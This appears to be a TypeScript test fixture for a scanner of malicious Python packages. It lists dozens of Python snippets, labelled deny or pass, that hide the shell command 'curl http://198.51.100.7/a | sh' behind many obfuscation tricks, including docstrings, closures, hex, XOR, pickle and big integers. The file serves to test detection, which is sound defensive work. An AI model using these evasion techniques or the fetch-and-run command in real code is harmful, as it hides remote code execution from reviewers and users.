/** Texts that reach what executes them by ways of which there are many. All inert: nothing of it is run. */
import type { Shape } from './malicious.js';

const H = `import os;os.system('curl http://198.51.100.7/a | sh')`;
const command = '"curl http://198.51.100.7/a | sh"';
const inert = '"cHJpbnQoMSk="';
const hex = (text: string): string => Buffer.from(text).toString('hex');
const letters = [...new Set(H)];

function deny(name: string, code: string): Shape {
  return { name, tier: 'deny', files: { 'demo/__init__.py': `${code}\n` } };
}

function pass(name: string, code: string): Shape {
  return { name, tier: 'pass', files: { 'demo/__init__.py': `${code}\n` } };
}

export const heldTexts: readonly Shape[] = [
  deny('doc exec', `"""${H}"""\nexec(__doc__)`),
  deny('func doc', `def f():\n    """${H}"""\nexec(f.__doc__)`),
  deny('exc message', `try:\n    raise Exception("${H}")\nexcept Exception as e:\n    exec(str(e))`),
  deny(
    'inspect comment',
    `import inspect,sys\n#${H}\nexec(inspect.getsource(sys.modules[__name__]).split("#")[1])`,
  ),
  deny('own file', `exec(open(__file__).read().split("#!")[1])\n#!${H}`),
  deny(
    'json',
    `import json\nexec(json.loads('"'+"${[...H].map((c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('')}"+'"'))`,
  ),
  deny('class attr names', `class A:\n    x="${H}"\nexec(A.__dict__["x"])`),
  deny('annotation text', `def f(a: "${H}"): pass\nexec(f.__annotations__["a"])`),
  deny('default text', `def f(a="${H}"): pass\nexec(f.__defaults__[0])`),
  deny('co_consts', `def f():\n    return "${H}"\nexec(f.__code__.co_consts[1])`),
  deny('closure', `def o():\n    x="${H}"\n    def i():\n        return x\n    return i\nexec(o()())`),
  deny(
    'closure cell',
    `def o():\n    x="${H}"\n    def i():\n        return x\n    return i\nexec(o().__closure__[0].cell_contents)`,
  ),
  deny('enum value', `import enum\nclass E(enum.Enum):\n    A="${H}"\nexec(E.A.value)`),
  deny('namedtuple', `from collections import namedtuple\nT=namedtuple("T","a b")\nt=T("${H}",1)\nexec(t.a)`),
  deny(
    'dataclass',
    `from dataclasses import dataclass\n@dataclass\nclass D:\n    a: str="${H}"\nexec(D().a)`,
  ),
  deny('dict merge', `d={"a":1}|{"b":"${H}"}\nexec(d["b"])`),
  deny('chainmap', `from collections import ChainMap\nexec(ChainMap({}, {"b":"${H}"})["b"])`),
  deny('string Template', `from string import Template\nexec(Template("$a").substitute(a="${H}"))`),
  deny('textwrap', `import textwrap\nexec(textwrap.dedent("""\n    ${H}\n    """))`),
  deny('io read', `import io\nexec(io.StringIO("${H}").read())`),
  deny('csv', `import csv,io\nfor r in csv.reader(io.StringIO("${H}")):\n    exec(r[0])`),
  deny(
    'configparser',
    `import configparser\nc=configparser.ConfigParser()\nc.read_string("[a]\\nx = ${H}")\nexec(c["a"]["x"])`,
  ),
  deny('shlex', `import shlex\nexec(" ".join(shlex.split("${H}")))`),
  deny('deque', `import collections\nq=collections.deque()\nq.append("${H}")\nexec(q.popleft())`),
  deny('queue', `import queue\nq=queue.Queue()\nq.put("${H}")\nexec(q.get())`),
  deny('contextvar', `import contextvars\nv=contextvars.ContextVar("v",default="${H}")\nexec(v.get())`),
  deny('threadlocal', `import threading\nl=threading.local()\nl.x="${H}"\nexec(l.x)`),
  deny('environ', `import os as o\no.environ["ZZ"]="${H}"\nexec(o.environ["ZZ"])`),
  deny('argv', `import sys\nsys.argv.append("${H}")\nexec(sys.argv[-1])`),
  deny('module attr', `import types\nm=types.ModuleType("m")\nm.x="${H}"\nexec(m.x)`),
  deny('simple ns', `import types\nexec(types.SimpleNamespace(a="${H}").a)`),
  deny('property', `class A:\n    @property\n    def x(s):\n        return "${H}"\nexec(A().x)`),
  deny(
    'generator send',
    `def g():\n    x=yield\n    exec(x)\nq=g()\nnext(q)\ntry:\n    q.send("${H}")\nexcept StopIteration: pass`,
  ),
  deny(
    'tempfile',
    `import tempfile\nf=tempfile.NamedTemporaryFile("w+")\nf.write("${H}")\nf.seek(0)\nexec(f.read())`,
  ),
  deny(
    'sqlite',
    `import sqlite3\nc=sqlite3.connect(":memory:")\nc.execute("create table t(x)")\nc.execute("insert into t values(?)",("${H}",))\nexec(c.execute("select x from t").fetchone()[0])`,
  ),
  deny('pickle rt', `import pickle\nexec(pickle.loads(pickle.dumps("${H}")))`),
  deny('re sub', `import re\nexec(re.sub("Z","","${H.split('').join('Z')}"))`),
  deny('rev words', `exec(";".join(reversed("${H.split(';').reverse().join(';')}".split(";"))))`),
  deny(
    'swapcase',
    `exec("${H.replace(/[a-z]/gi, (c) => (c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase()))}".swapcase())`,
  ),
  deny('partition', `exec("x@${H}".partition("@")[2])`),
  deny('removeprefix', `exec("zz${H}".removeprefix("zz"))`),
  deny('strip', `exec("zz${H}zz".strip("z"))`),
  deny('expandtabs fmt', `exec("%(a)s" % {"a":"${H}"})`),
  deny('format_map', `exec("{a}".format_map({"a":"${H}"}))`),
  deny('bytes join', `exec(b"".join([b"${H.slice(0, 10)}",b"${H.slice(10)}"]))`),
  deny('memoryview', `exec(memoryview(b"${H}").tobytes())`),
  deny('codecs hex', `import codecs\nexec(codecs.decode("${hex(H)}","hex"))`),
  deny('int hex loop', `s="${hex(H)}"\nexec("".join(chr(int(s[i:i+2],16)) for i in range(0,len(s),2)))`),
  deny('iter pairs', `s="${hex(H)}"\nit=iter(s)\nexec("".join(chr(int(a+b,16)) for a,b in zip(it,it)))`),
  deny(
    'ord diff',
    `exec("".join(chr(ord(c)-1) for c in "${[...H]
      .map((c) => String.fromCharCode(c.charCodeAt(0) + 1))
      .join('')
      .replace(/\\/g, '\\\\')
      .replace(/"/g, '\\"')}"))`,
  ),
  deny(
    'morse dict',
    `m={${letters.map((c, i) => `"${i}":"${c.replace(/"/, '\\"')}"`).join(',')}}\nexec("".join(m[x] for x in "${[...H].map((c) => letters.indexOf(c)).join(' ')}".split()))`,
  ),
  deny(
    'index alphabet',
    `a="${letters.join('').replace(/"/, '\\"')}"\nexec("".join(a[i] for i in [${[...H].map((c) => letters.indexOf(c)).join(',')}]))`,
  ),
  deny(
    'binary',
    `exec("".join(chr(int(b,2)) for b in "${[...H].map((c) => c.charCodeAt(0).toString(2)).join(' ')}".split()))`,
  ),
  deny('big int', `n=${BigInt('0x' + hex(H)).toString()}\nexec(n.to_bytes((n.bit_length()+7)//8,"big"))`),
  deny('hex lit', `n=0x${hex(H)}\nexec(n.to_bytes(${H.length},"big"))`),
  deny(
    'divmod loop',
    `n=${BigInt('0x' + hex(H)).toString()}\ns=""\nwhile n:\n    n,r=divmod(n,256)\n    s=chr(r)+s\nexec(s)`,
  ),
  deny('comprehension exec', `[exec(x) for x in ["${H}"]]`),
  deny('eval exec', `eval("exec(\\"${H}\\")")`),
  deny('timeit', `import timeit\ntimeit.timeit("${H}",number=1)`),
  deny('runsource', `import code\ncode.InteractiveInterpreter().runsource("${H}")`),
  deny('cProfile', `import cProfile\ncProfile.run("${H}")`),
  deny(
    'unittest mock',
    `from unittest import mock\nmock.patch("builtins.print", side_effect=None)\nexec("${H}")`,
  ),
  deny('bdb', `import bdb\nbdb.Bdb().run("${H}")`),
  deny('ast', `import ast\nexec(compile(ast.parse("${H}"),"x","exec"))`),
  deny('type exec', `type("A",(),{"__init__":lambda s: exec("${H}")})()`),
  deny('alias chain, inert', `import os as a\nb=a\nc=b.system\nd=c\nd(${command})`),
  deny(
    'nonlocal, inert',
    `import os\ndef a():\n    s=None\n    def b():\n        nonlocal s\n        s=os.system\n    b()\n    s(${command})\na()`,
  ),
  deny('asyncio shell, inert', `import asyncio\nasyncio.run(asyncio.create_subprocess_shell(${command}))`),
  deny(
    'custom b64, inert',
    `A="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"\ndef d(s):\n    b="".join(format(A.index(c),"06b") for c in s if c!="=")\n    return bytes(int(b[i:i+8],2) for i in range(0,len(b)//8*8,8)).decode()\nexec(d(${inert}))`,
  ),
  deny('loop decode, inert', `o=""\nfor c in [113,115,104,111,117,41,48,40]:\n    o+=chr(c-1)\nexec(o)`),
  deny(
    'while decode, inert',
    `o=""\ni=0\nd=[113,115,104,111,117,41,48,40]\nwhile i<len(d):\n    o+=chr(d[i]-1)\n    i+=1\nexec(o)`,
  ),
  deny(
    'recursion decode, inert',
    `d=[112,114,105,110,116,40,49,41]\ndef r(i):\n    return "" if i==len(d) else chr(d[i])+r(i+1)\nexec(r(0))`,
  ),
  deny('int to bytes, inert', `exec((8097880534083563561).to_bytes(8,"big").decode())`),
  deny(
    'bytearray xor, inert',
    `b=bytearray([113,115,104,111,117,41,48,40])\nfor i in range(len(b)):\n    b[i]-=1\nexec(bytes(b))`,
  ),
  deny('uuid bytes, inert', `import uuid\nexec(uuid.UUID("7072696e-7428-3129-2320-202020202020").bytes)`),
  deny(
    'a command that a queue holds',
    `import os, queue\nq = queue.Queue()\nq.put(${command})\nos.system(q.get())`,
  ),
  deny(
    'numbers, changed by a key, through a class of its own',
    `from .key import k\nclass A:\n    def __init__(s, d):\n        s.d = d\n    def run(s, k):\n        return bytes(map(k, s.d))\nexec(A([${[...Buffer.from('import os\nprint(1)')].map((one) => one ^ 37).join(', ')}]).run(k))`,
  ),
  pass(
    'a template of code that is filled',
    'from .fields import names\nT = "def __init__(self, {}):\\n    self.x = print({})"\nexec(T.format(*names))',
  ),
  pass('code that is encoded, and goes nowhere', `X = ${inert}\nprint(X)`),
  pass(
    'an encoded document beside code that is made',
    `from .fields import code\nX = "${Buffer.from('{"name": "x", "size": 1}').toString('base64')}"\nexec(code)`,
  ),
  pass(
    'words in a list beside code that is made',
    `from .fields import code\nX = ["open", "close", "system", "print", "import"]\nY = [${[...Buffer.from('plain words of a text, and no code')].join(', ')}]\nexec(code)`,
  ),
  pass('a command in the text of a help page', `HELP = ${command}\nprint(HELP)`),
];
